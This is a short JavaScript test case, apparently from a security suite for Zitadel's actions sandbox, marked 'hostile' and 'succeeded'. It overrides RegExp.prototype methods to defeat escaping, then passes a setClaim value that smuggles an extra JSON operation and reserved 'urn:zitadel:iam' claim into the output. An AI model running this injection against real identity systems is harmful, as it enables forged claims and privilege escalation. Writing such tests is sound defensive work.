// hostile: proto_regexp_exec
// what: RegExp.prototype.exec says yes to everything, so that nothing would be quoted
// outcome: succeeded
// realm: shared fresh
// sets: {"before": "\"},{\"op\":\"setClaim\",\"action\":\"act\",\"key\":\"urn:zitadel:iam:a\",\"value\":\"b"}
Reflect.set(RegExp.prototype, 'exec', () => []);
Reflect.set(RegExp.prototype, 'test', () => true);
Reflect.set(RegExp.prototype, Symbol.replace, () => 'SECRET"');
function act(ctx, api) {
  api.v1.claims.setClaim('before', '"},{"op":"setClaim","action":"act","key":"urn:zitadel:iam:a","value":"b');
}
